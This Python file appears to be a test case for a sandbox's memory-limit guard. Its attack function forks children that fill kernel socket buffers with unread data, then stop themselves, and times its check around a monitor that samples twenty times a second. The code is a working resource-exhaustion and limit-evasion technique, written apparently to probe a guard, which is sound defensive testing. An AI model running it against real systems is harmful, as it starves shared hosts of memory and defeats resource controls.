# cases: 25, 29
# guard: limits
# fact: took more memory|had not returned
"""Takes too much of the kernel's memory, which no process has: in the buffers of sockets that nobody reads."""
import os
import socket
import time


def fill(tell, most):
    taken, held = 0, []
    for _ in range(200):
        held += socket.socketpair()
        for sock in held[-2:]:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 1 << 30)  # as large as this machine lets them be
            sock.setblocking(False)
            try:
                while taken < most:
                    taken += sock.send(bytes(65536))
            except BlockingIOError:
                continue
    os.write(tell, taken.to_bytes(8, "big"))
    while True:
        os.kill(os.getpid(), 19)


def attack(bait):
    told, tell = os.pipe()
    taken, wanted = 0, bait["megabytes"] * 1_000_000
    for _ in range(20):
        if taken < wanted:
            if os.fork() == 0:
                fill(tell, wanted - taken)
            taken += int.from_bytes(os.read(told, 8), "big")
    time.sleep(0.2)  # whoever looks at the memory looks twenty times a second
    return f"{taken} bytes" if taken >= wanted else None
